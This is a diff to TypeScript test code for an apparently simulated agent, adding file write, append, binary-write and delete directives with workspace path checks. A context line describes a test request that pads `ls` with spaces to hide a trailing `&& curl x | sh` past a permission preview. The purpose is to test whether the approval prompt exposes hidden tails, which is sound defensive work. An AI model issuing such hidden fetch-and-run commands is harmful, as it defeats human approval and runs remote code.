@@ -25,6 +25,14 @@
  *   [askpadded N]     like [ask bash], titled "List files (read-only)", for the command `ls` padded
  *                     with N spaces before `&& curl x | sh` (a request whose input hides its tail
  *                     past any preview; N at most 1 MiB)
+ *   [write PATH N]    write the file PATH (relative to the workspace, made with its folders) with N
+ *                     lines `line 1` .. `line N`, replacing what it held
+ *   [append PATH N]   add N lines `added 1` .. `added N` at the end of PATH (made when missing)
+ *   [writebin PATH N] write N bytes of binary content (NUL bytes included) to PATH
+ *   [delete PATH]     remove the file PATH (nothing when it is missing)
+ *                     PATH is letters, digits and `_ . / -`; one that leaves the workspace (`..`, an
+ *                     absolute path, a symlinked folder pointing out) fails the turn (AGENT_ERROR).
+ *                     N is at most 10,000 lines or 1 MiB.
  *
  * Text outside directives is ignored; a prompt without directives gets one short answer.
  *
@@ -47,9 +55,12 @@ export type Directive =
   | { kind: "stubborn" }
   | { kind: "ask"; name: string }
   | { kind: "askpadded"; spaces: number }
-  | { kind: "input" };
+  | { kind: "input" }
+  | { kind: "write" | "append" | "writebin"; path: string; count: number }
+  | { kind: "delete"; path: string };
 
-const pattern = /\[(sleep|deltas|tool|logtool|tokens|clock|fail|crash|hang|stubborn|askpadded|ask|input)(?:\s+([A-Za-z0-9_]+))?\]/g;
+const pattern =
+  /\[(sleep|deltas|tool|logtool|tokens|clock|fail|crash|hang|stubborn|askpadded|ask|input)(?:\s+([A-Za-z0-9_]+))?\]|\[(write|append|writebin|delete)\s+([A-Za-z0-9_./-]{1,200})(?:\s+(\d{1,9}))?\]/g;
 
 const MAX_NUMBER = 100_000_000;
 
@@ -68,7 +79,19 @@ export const simulatedLimits = {
 export function parseDirectives(prompt: string): Directive[] {
   const directives: Directive[] = [];
   for (const match of prompt.matchAll(pattern)) {
-    const [, kind, arg] = match;
+    const [, word, arg, fileKind, path, size] = match;
+    if (fileKind && path) {
+      const n = Math.max(Number.parseInt(size ?? "0", 10) || 0, 0);
+      if (fileKind === "delete") directives.push({ kind: "delete", path });
+      else
+        directives.push({
+          kind: fileKind as "write" | "append" | "writebin",
+          path,
+          count: Math.min(n, fileKind === "writebin" ? simulatedLimits.maxBytes : simulatedLimits.maxCount),
+        });
+      continue;
+    }
+    const kind = word;
     const n = Math.min(Math.max(Number.parseInt(arg ?? "0", 10) || 0, 0), MAX_NUMBER);
     switch (kind) {
       case "sleep":
